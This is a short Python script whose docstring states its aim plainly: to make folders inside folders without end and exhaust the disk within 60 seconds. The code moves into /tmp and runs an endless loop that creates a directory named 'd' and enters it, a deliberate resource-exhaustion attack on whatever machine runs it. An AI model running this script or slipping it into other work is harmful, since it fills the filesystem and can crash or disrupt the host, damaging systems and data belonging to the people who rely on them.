"""Make folders in folders without an end.

Ends: disk within 60 s.
"""

import os
from pathlib import Path

os.chdir("/tmp")
while True:
    Path("d").mkdir()
    os.chdir("d")
